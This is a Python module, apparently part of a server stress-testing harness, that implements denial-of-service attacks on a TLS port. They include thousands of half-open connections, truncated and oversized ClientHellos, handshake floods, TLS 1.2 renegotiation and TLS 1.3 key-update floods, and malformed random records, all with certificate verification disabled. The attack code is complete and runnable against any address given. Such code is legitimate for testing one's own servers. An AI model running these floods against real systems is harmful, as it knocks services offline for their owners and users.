"""Attacks on a port of TLS: handshakes that stop on the way, that come without end, and what TLS
alone allows. Each is a function as in front_attacks.py, and tells its endings in the same words.

Owns how each looks on the wire; judges nothing. Certificates are not looked at: an attacker
doesn't mind whom he talks to.
"""

from __future__ import annotations

import itertools
import os
import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import ExitStack

from front_attacks import Attack, Endings, GoOn
from front_frames import PREFACE, Connection, settings
from tls_native import NativeClient

HALF_OPEN = 2_000
PART_SECONDS = 0.5
FLIGHTS_MOST = 8
READ_BYTES = 1 << 16
HANDSHAKE, APPLICATION_DATA = b"\x16", b"\x17"


def record(kind: bytes, body: bytes, *, size: int | None = None) -> bytes:
    """One record of TLS 1.2 or 1.3; `size` says another length than the body has."""
    return kind + b"\x03\x03" + struct.pack(">H", len(body) if size is None else size) + body


def client_hello() -> bytes:
    """The first flight of an ordinary client."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake that needs no server")


def half_open(address: str, go_on: GoOn, said: bytes) -> Endings:
    """Thousands of connections that say so much and nothing more. Whoever is thrown out is back."""
    endings: Endings = Counter()
    held: list[Connection] = []
    with ExitStack() as stack:
        while go_on():
            if len(held) == HALF_OPEN:
                time.sleep(0.01)  # holding on is the attack
                gone = [each for each in held if is_over(each.socket, 0)]
                endings["closed"] += len(gone)
                for each in gone:
                    held.remove(each)
                    each.close()
                continue
            try:
                connection = stack.enter_context(Connection(address, silent=True))
            except OSError:
                endings["not accepted"] += 1
                time.sleep(0.01)  # tried again, though not at once
                continue
            connection.send(said)
            held.append(connection)
        endings["held"] = len(held)
    return endings


def is_over(plug: socket.socket, seconds: float) -> bool:
    """Takes what comes until nothing has come for so long; True when the other side has closed."""
    plug.settimeout(seconds)
    try:
        while plug.recv(READ_BYTES):
            pass
    except (BlockingIOError, TimeoutError):
        return False
    except OSError:
        return True
    return True


def tls_silence(address: str, go_on: GoOn) -> Endings:
    """Connections that never begin."""
    return half_open(address, go_on, b"")


def tls_half_hello(address: str, go_on: GoOn) -> Endings:
    """Connections that stop in the midst of their ClientHello."""
    hello = client_hello()
    return half_open(address, go_on, hello[: len(hello) // 2])


def tls_hello_only(address: str, go_on: GoOn) -> Endings:
    """Connections that had the server sign for them, and leave it at that."""
    return half_open(address, go_on, client_hello())


def tls_long_hello(address: str, go_on: GoOn) -> Endings:
    """Connections that stop in the midst of the longest ClientHello that is borne."""
    start = b"\x01\x00\x40\x00\x03\x03" + bytes(15_000)
    return half_open(address, go_on, record(HANDSHAKE, start))


def tls_endless_hello(address: str, go_on: GoOn) -> Endings:
    """ClientHellos that say they are as long as OpenSSL bears, which makes room for all of it."""
    start = b"\x01\x01\xff\xff\x03\x03" + bytes(15_000)
    return half_open(address, go_on, record(HANDSHAKE, start) + 3 * record(HANDSHAKE, start[6:]))


def tls_hello_flood(address: str, go_on: GoOn) -> Endings:
    """ClientHellos without end, each over a connection of its own: a signature for a few bytes."""
    hello = client_hello()
    endings: Endings = Counter()
    while go_on():
        with ExitStack() as stack:
            try:
                together = [
                    stack.enter_context(Connection(address, silent=True)) for _ in range(32)
                ]
            except OSError:
                endings["not accepted"] += 1
                continue
            for each in together:
                each.send(hello)
            endings["left"] += len(together)
    return endings


def tls_renegotiation(address: str, go_on: GoOn) -> Endings:
    """Whole handshakes of TLS 1.2, and on each connection the wish for another."""
    return native_flood(address, go_on, ssl.TLSVersion.TLSv1_2, NativeClient.renegotiate)


def tls_new_keys(address: str, go_on: GoOn) -> Endings:
    """Whole handshakes of TLS 1.3, then new keys asked for thousands of times and not a byte."""

    def ask_for_keys(client: NativeClient) -> None:
        for _ in range(4_000):
            client.update_keys()

    return native_flood(address, go_on, ssl.TLSVersion.TLSv1_3, ask_for_keys)


def native_flood(
    address: str,
    go_on: GoOn,
    version: ssl.TLSVersion,
    misbehave: Callable[[NativeClient], None],
) -> Endings:
    """Misbehaves on an open connection, sees how the server takes it, and begins again."""
    endings: Endings = Counter()
    while go_on():
        try:
            connection = Connection(address, silent=True)
        except OSError:
            endings["not accepted"] += 1
            continue
        with connection, NativeClient(version=version) as client:
            connection.socket.settimeout(PART_SECONDS)
            if not opened(connection, client):
                endings["no handshake"] += 1
                continue
            misbehave(client)
            connection.send(client.take())
            endings["closed" if is_over(connection.socket, PART_SECONDS) else "open"] += 1
    return endings


def opened(connection: Connection, client: NativeClient) -> bool:
    """The handshake and HTTP/2's start; False: the server had no time for it."""
    for _ in range(FLIGHTS_MOST):
        done = client.shake_hands()
        if not connection.send(client.take()):
            return False
        if done:
            client.write(PREFACE + settings())
            return connection.send(client.take())
        try:
            client.push(connection.socket.recv(READ_BYTES))
        except OSError:
            return False
    return False


def tls_garbage(address: str, go_on: GoOn) -> Endings:
    """Records of noise: before, in the midst of, and after a ClientHello; long, short and wrong."""
    hello = client_hello()
    endings: Endings = Counter()
    for turn in itertools.count():
        if not go_on():
            return endings
        noise = os.urandom(1_000)
        text = (
            record(HANDSHAKE, noise),
            hello + record(APPLICATION_DATA, noise),
            hello[:60] + noise,
            record(HANDSHAKE, noise, size=0xFFFF),
            hello + record(b"\x15", noise[:2]) + record(b"\x14", b"\x01") * 40,
            hello * 30,
            record(HANDSHAKE, b"") * 200,
        )[turn % 7]
        try:
            connection = Connection(address, silent=True)
        except OSError:
            endings["not accepted"] += 1
            continue
        with connection:
            connection.socket.settimeout(PART_SECONDS)
            connection.send(text)
            endings["left"] += 1
            if turn % 50 == 0:
                endings["closed" if is_over(connection.socket, PART_SECONDS) else "open"] += 1
    return endings


TLS_ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(tls_silence, tls_half_hello, tls_hello_only, tls_long_hello, tls_endless_hello),
        tls_hello_flood,
        *(tls_renegotiation, tls_new_keys, tls_garbage),
    )
}
"""Every attack on a port of TLS by its name."""
